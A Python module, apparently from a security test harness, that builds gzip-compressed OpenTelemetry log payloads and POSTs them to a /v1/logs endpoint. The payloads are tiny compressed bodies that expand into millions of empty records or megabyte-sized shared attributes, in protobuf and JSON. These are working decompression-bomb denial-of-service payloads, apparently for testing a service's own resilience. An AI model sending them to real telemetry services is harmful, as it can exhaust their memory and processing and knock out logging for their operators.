"""OpenTelemetry: few bytes that stand for millions of records, or for one large resource in each of many."""
import gzip

from attack import Attack

PROTOBUF, JSON = {"Content-Type": "application/x-protobuf"}, {"Content-Type": "application/json"}
RECORDS, SHARED_BYTES, SHARERS = 3_000_000, 1_000_000, 1_000


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def field(number, content):
    return bytes([number << 3 | 2]) + varint(len(content)) + content


def protobuf(resource, scope, records):
    """ExportLogsServiceRequest{resource_logs{resource{attributes}, scope_logs{scope{attributes}, log_records}}}"""
    def attribute(text):
        return field(1, b"k") + field(2, field(1, text))

    scope_logs = (field(1, field(3, attribute(scope))) if scope else b"") + b"\x12\x00" * records
    return field(1, (field(1, field(1, attribute(resource))) if resource else b"") + field(2, scope_logs))


def json_text(resource, records):
    return (b'{"resourceLogs":[{"resource":{"attributes":[{"key":"k","value":{"stringValue":"' + resource
            + b'"}}]},"scopeLogs":[{"logRecords":[' + b",".join([b"{}"] * records) + b"]}]}]}")


def blow_of(make, headers):
    made = []

    def blow(target):
        made or made.append(gzip.compress(make(), 9))
        target.try_to_ask("POST", "/v1/logs", target.attacker["publishable"], made[0], headers, packed=True)

    return blow


BIG = b"a" * SHARED_BYTES
ATTACKS = [
    Attack("OTLP, millions of empty records, protobuf", "publishable key", blow_of(lambda: protobuf(b"", b"", RECORDS), PROTOBUF)),
    Attack("OTLP, millions of empty records, JSON", "publishable key", blow_of(lambda: json_text(b"", RECORDS), JSON)),
    Attack("OTLP, large resource and many records, protobuf", "publishable key", blow_of(lambda: protobuf(BIG, b"", SHARERS), PROTOBUF)),
    Attack("OTLP, large scope and many records, protobuf", "publishable key", blow_of(lambda: protobuf(b"", BIG, SHARERS), PROTOBUF)),
    Attack("OTLP, large resource and many records, JSON", "publishable key", blow_of(lambda: json_text(BIG, SHARERS), JSON)),
]
